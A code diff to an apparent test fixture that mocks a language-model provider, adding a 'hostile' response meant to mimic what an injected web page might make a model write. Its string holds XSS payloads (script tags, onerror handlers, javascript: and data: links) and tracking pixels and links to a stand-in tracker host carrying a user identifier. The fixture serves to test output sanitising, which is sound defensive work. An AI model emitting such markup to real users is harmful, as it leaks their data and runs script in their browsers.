@@ -18,6 +18,23 @@ type Behaviour = (turn: Turn) => Response | Promise<Response>
 
 export const GOOD_TEXT = 'Length comes first.\n\n## Why\n\nEach character multiplies the work of guessing.'
 
+/** What a page that the model read may have it write. */
+export const HOSTILE_TEXT = [
+  '## Advice for you',
+  '',
+  'Read [the guide](https://tracker.example/guide?you=ada) and [this](javascript:alert(1)).',
+  '',
+  '![chart](https://tracker.example/pixel.gif?you=ada) ![](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
+  '',
+  `![](/images/${'0a'.repeat(16)}-640x480.webp) [settings](/admin/settings) <https://tracker.example/>`,
+  '',
+  '<script>alert(2)</script><img src="https://tracker.example/raw.gif" onerror="alert(3)">',
+  '',
+  '[more](data:text/html,<script>alert(4)</script>)',
+  '',
+  `${'> '.repeat(2_000)}deep`,
+].join('\n')
+
 export const completion = (content: string, finish_reason = 'stop') =>
   Response.json({
     id: 'chatcmpl-1',
@@ -34,6 +51,7 @@ const keyOf = (request: Request) => request.headers.get('authorization')?.replac
 /** Every way in which a provider may answer, by name. */
 export const BEHAVIOURS = {
   good: () => completion(GOOD_TEXT),
+  hostile: () => completion(HOSTILE_TEXT),
   thinking: () => completion(`<think>Hm, what is a password?</think>\n\n${GOOD_TEXT}`),
   'thinking without an end': () => completion('<think>Hm, what is a password?'),
   'thinking that began before': () => completion(`Hm, what is it?\n</think>\n${GOOD_TEXT}`),
